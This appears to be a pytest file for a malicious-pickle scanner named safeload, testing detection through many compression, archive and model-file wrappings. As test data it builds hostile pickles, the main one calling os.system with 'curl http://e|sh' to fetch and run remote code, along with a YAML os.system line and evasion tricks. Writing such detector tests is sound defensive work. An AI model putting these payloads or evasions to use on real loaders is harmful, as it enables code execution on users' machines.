"""Nothing that runs code gets past scan, however it is called, packed, named or broken off."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import pickle
import tarfile
import zipfile
import zlib
from pathlib import Path
from typing import TYPE_CHECKING, Any

import joblib
import lz4.frame
import numpy as np
import pytest
from backports import zstd

import safeload
from test_evasions import REFUSED, SEEN
from testkit.hiding import CALLS, GADGETS, INSTANTIATED, P4, REFERENCED, nested, stack_global, text_global

FILES = Path(__file__).parent / "data" / "scan"

if TYPE_CHECKING:
    from collections.abc import Callable

    from conftest import Keys

PAYLOAD = P4 + stack_global("os", "system") + b"\x8c\x10curl http://e|sh\x85R."


def scanned(data: bytes) -> safeload.Report:
    return safeload.scan(io.BytesIO(data))


def names(report: safeload.Report) -> set[str]:
    return {finding.name for finding in report.findings if finding.severity >= safeload.Severity.MEDIUM}


def shown(module: str, name: str) -> tuple[str, str]:
    """What a stream of protocol 0 calls so, and what it is renamed to."""
    return f"{module}.{name}", name


@pytest.mark.parametrize("how", CALLS)
def test_every_gadget_is_found_however_it_is_called(how: str) -> None:
    for module, name in GADGETS:
        name = "anything" if name == "*" else name
        if (module, name) in REFERENCED | INSTANTIATED:
            continue
        report = scanned(CALLS[how](module, name))
        assert report.exit_code == 1, f"{module}.{name}: {report}"
        found = [each for each in report.findings if each.severity >= safeload.Severity.MEDIUM]
        last = name.rpartition(".")[2]
        assert any(each.offset >= 0 and (each.name.endswith(last) or last in each.text) for each in found), name


def test_every_gadget_is_found_where_it_is_only_referenced() -> None:
    for module, name in GADGETS:
        if (module, name) not in REFERENCED:
            data = P4 + stack_global(module, "anything" if name == "*" else name) + b"."
            assert scanned(data).exit_code == 1, (module, name)


@pytest.mark.parametrize("how", SEEN)
def test_what_would_run_is_named(how: str) -> None:
    report = scanned(SEEN[how])
    assert report.exit_code == 1
    assert any("system" in name or name for name in names(report)), report.findings


# The first is text, which nothing takes for a pickle; in the second an attribute of an array is another than joblib's,
# which contracts look at while an object is rebuilt.
@pytest.mark.parametrize("how", sorted(REFUSED.keys() - {"PERSID", "padding that begins like STOP"}))
def test_what_no_pickler_writes_is_never_called_clean(how: str) -> None:
    assert scanned(REFUSED[how]).exit_code != 0


def in_zip(data: bytes, name: str = "config.dat", method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        archive.writestr("readme.txt", "a model")
        archive.writestr(name, data)
    return buffer.getvalue()


def in_tar(data: bytes, form: int = tarfile.PAX_FORMAT) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=form) as archive:
        info = tarfile.TarInfo("weights.bin")
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def in_npy(data: bytes) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, np.array([None], object), allow_pickle=True)
    head = buffer.getvalue()
    return head[: head.index(b"\n") + 1] + data


def after_array(data: bytes) -> bytes:
    """A joblib file of an array, in whose place of a second the payload stands."""
    buffer = io.BytesIO()
    joblib.dump([np.arange(1_000.0), 5], buffer, protocol=4)
    return buffer.getvalue()[:-4] + data.removeprefix(P4).removesuffix(b".") + b"e."


WRAPPED: dict[str, Callable[[bytes], bytes]] = {
    "as it is": lambda data: data,
    "zlib": zlib.compress,
    "gzip": gzip.compress,
    "bz2": bz2.compress,
    "xz": lzma.compress,
    "lzma": lambda data: lzma.compress(data, lzma.FORMAT_ALONE),
    "zstd": zstd.compress,
    "lz4": lz4.frame.compress,
    "old joblib": lambda data: b"ZF" + hex(len(data)).ljust(19).encode() + zlib.compress(data),
    "two gzip streams": lambda data: gzip.compress(pickle.dumps(1)) + gzip.compress(data),
    "behind a gzip stream": lambda data: gzip.compress(b"N.") + data,
    "zip": in_zip,
    "zip, stored": lambda data: in_zip(data, method=zipfile.ZIP_STORED),
    "zip, bz2": lambda data: in_zip(data, method=zipfile.ZIP_BZIP2),
    "zip behind other bytes": lambda data: b"MZ" + bytes(100) + in_zip(data),
    "before a zip": lambda data: data + in_zip(b"hello"),
    "behind a zip's directory": lambda data: in_zip(b"hello") + data,
    "tar": in_tar,
    "tar, old": lambda data: in_tar(data, tarfile.USTAR_FORMAT),
    "tar.gz": lambda data: gzip.compress(in_tar(data)),
    "npy of objects": in_npy,
    "npz of objects": lambda data: in_zip(in_npy(data), "a.npy"),
    "behind an npy": lambda data: _npy() + data,
    "object array of joblib": nested,
    "after an array": after_array,
    "second pickle": lambda data: pickle.dumps({"a": 1}) + data,
    "third pickle": lambda data: pickle.dumps(1) + pickle.dumps(2) + data,
    "second pickle, broken": lambda data: pickle.dumps(1) + data[:-1],
    "without an end": lambda data: data[:-1],
    "as a state dict": lambda data: in_zip(data, "archive/data.pkl", zipfile.ZIP_STORED),
    "in a state dict's extra file": lambda data: in_zip(data, "archive/extra/more"),
    "under a name of numbers, in no state dict": lambda data: in_zip(data, "archive/data/0"),
    "a keras archive's member": lambda data: in_zip(data, "assets/vocabulary.txt"),
}  # fmt: skip


def _npy() -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, np.arange(3))
    return buffer.getvalue()


@pytest.mark.parametrize("inner", WRAPPED)
@pytest.mark.parametrize("outer", WRAPPED)
def test_the_payload_is_found_in_every_wrapping_and_in_any_two(outer: str, inner: str) -> None:
    data = WRAPPED[outer](WRAPPED[inner](PAYLOAD))
    if outer in ("object array of joblib", "after an array") and inner != "as it is":
        return  # these hold a pickle, not a file
    if outer in ("second pickle, broken", "without an end") and inner != "as it is":
        data = WRAPPED[inner](WRAPPED[outer](PAYLOAD))
    report = scanned(data)
    assert report.exit_code == 1, report
    assert "posix.system" in names(report) or "os.system" in names(report), report.findings


def test_numbers_of_a_state_dict_that_are_a_pickle_are_looked_into() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("a/data.pkl", pickle.dumps({}))
        archive.writestr("a/data/0", PAYLOAD)
        archive.writestr("a/data/1", np.random.default_rng(0).normal(size=99).tobytes())
    report = scanned(buffer.getvalue())
    assert "os.system" in names(report)
    assert report.files[0].unread == ()


def test_variables_of_tensorflow_that_are_a_pickle_are_looked_into(tmp_path: Path) -> None:
    (tmp_path / "variables.index").write_bytes(bytes(40) + b"\x57\xfb\x80\x8b\x24\x75\x47\xdb")
    data = tmp_path / "variables.data-00000-of-00001"
    data.write_bytes(np.random.default_rng(0).normal(size=99).tobytes())
    assert safeload.scan(tmp_path).exit_code == 0
    for payload in (PAYLOAD, b"cos\nsystem\n(S'touch MARK'\ntR.", zlib.compress(PAYLOAD)):
        data.write_bytes(payload)
        assert safeload.scan(tmp_path).exit_code == 1


def _legacy_torch(payload: bytes) -> bytes:
    """As PyTorch below 1.6 wrote a file: a number, a version, the system, the object, the keys."""
    before = b"".join(pickle.dumps(part, 2) for part in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}))
    return before + payload + pickle.dumps([], 2)


@pytest.mark.parametrize("packed", [False, True])
def test_numbers_beside_a_model_of_onnx_that_are_a_pickle_are_looked_into(
    packed: bool, tmp_path: Path, team: Keys
) -> None:
    folder = tmp_path / "ox"
    folder.mkdir()
    (folder / "model.onnx").write_bytes((FILES / "external.onnx").read_bytes())  # which names weights.bin

    def code(payload: bytes, name: str = "weights.bin") -> int:
        (folder / name).write_bytes(payload)
        if not packed:
            return safeload.scan(folder).exit_code
        safeload.pack(folder, tmp_path / "m.safeload", signer=team.key)
        return safeload.scan(tmp_path / "m.safeload").exit_code

    for seed in range(20):
        assert code(np.random.default_rng(seed).normal(size=300).astype("f4").tobytes()) == 0
    payloads = {
        "as it is": PAYLOAD,
        "protocol 0": b"cos\nsystem\n(S'touch MARK'\ntR.",
        "compressed": zlib.compress(PAYLOAD),
        "in a zip": in_zip(PAYLOAD, "a.pkl"),
        "the second": b"N." + PAYLOAD,
        "the second, cut off": b"N." + PAYLOAD[:-1],
        "the fourth of PyTorch": _legacy_torch(PAYLOAD),
        "an extension": b"\x80\x02\x82\x01)R.",
        "behind a memo entry far away": b"]r\xff\xff\xff\x07" + PAYLOAD,
        "out of a memo entry far away": b"\x8c\x02osr\xff\xff\xff\x070j\xff\xff\xff\x07\x8c\x06system\x93.",
        "with a memo that has holes": P4
        + b"]q\x050\x8c\x02os\x940\x8c\x06system\x940h\x01h\x02\x93\x8c\x01x\x85R.".ljust(200, b"\0"),
        "with holes far away": P4
        + b"]r\xff\xff\xff\x070\x8c\x02os\x940\x8c\x06system\x940h\x01h\x02\x93\x8c\x01x\x85R.".ljust(200, b"\0"),
        "behind an odd key": b"]p 7\0more\n" + PAYLOAD,
        "elsewhere": b"Pmodel\n.",
        "a blank": P4 + stack_global("posix ", "system") + b"\x8c\x01x\x85R.",
        "behind a thousand": b"N." * 1_000 + PAYLOAD,
        "a document": b"a: !!python/object/apply:os.system ['id']\n",
        "a graph of TensorFlow": (FILES / "bad-python.savedmodel").read_bytes(),
        "another model": (FILES / "bad-domain.onnx").read_bytes(),
        "an archive behind numbers": b"\xff" * 4_096 + in_zip(PAYLOAD, "a.pkl"),
        "an archive behind what begins like a pickle": b"N\xff" * 2_048 + in_zip(PAYLOAD, "a.pkl"),
    }
    for name, payload in payloads.items():
        assert code(payload) != 0, name
    assert code(b"") == 2
    numbers = np.random.default_rng(0).normal(size=300).astype("f4").tobytes()
    assert code(numbers) == 0
    assert code(numbers, "other.bin") == 2  # of which nobody says what it is


@pytest.mark.parametrize("name", ["model.txt", "weights.safetensors", "README", "a.npy", "m.onnx", "x.zip", ".hidden"])
def test_an_ending_hides_nothing(name: str, tmp_path: Path) -> None:
    (tmp_path / name).write_bytes(PAYLOAD)
    report = safeload.scan(tmp_path)
    assert report.exit_code == 1
    assert report.files[0].findings[0].text.startswith("os.system is called with 'curl http://e|sh'")


def test_the_place_is_that_of_the_name() -> None:
    (finding,) = scanned(PAYLOAD).findings
    assert PAYLOAD[finding.offset : finding.offset + 1] == b"\x93"
    deep = scanned(gzip.compress(in_zip(PAYLOAD, "a/b.dat"))).findings[0]
    assert deep.member == ("gzip", "a/b.dat")
    assert deep.offset == finding.offset


def test_both_names_are_given_where_python_2s_is_written() -> None:
    (finding,) = scanned(text_global("commands", "getoutput") + b"(S'id'\ntR.").findings
    assert finding.name == "subprocess.getoutput"
    assert '(written as "commands.getoutput")' in finding.text


def test_a_bomb_is_not_unpacked(tmp_path: Path) -> None:
    data: Any = bytes(200 << 20)
    bomb = zlib.compress(data, 9)
    report = safeload.scan(io.BytesIO(bomb), limits=safeload.ScanLimits(expansion_floor=1 << 20, expansion_ratio=10))
    assert report.exit_code == 2
    assert "larger than the limits allow" in report.files[0].unread[0].text


def test_files_that_are_packed_in_one_another_without_end_are_given_up() -> None:
    data = PAYLOAD
    for _ in range(20):
        data = gzip.compress(data)
    report = scanned(data)
    assert report.exit_code == 2
    assert "12 deep" in report.files[0].unread[0].text
